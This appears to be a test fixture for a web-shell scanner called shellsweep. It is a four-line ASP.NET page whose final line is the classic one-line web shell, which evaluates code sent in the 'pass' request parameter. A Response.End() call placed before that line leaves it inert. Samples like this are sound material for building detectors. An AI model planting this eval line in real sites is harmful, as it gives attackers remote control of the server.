<%@ Page Language="Jscript"%>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%eval(Request.Item["pass"],"unsafe");%>
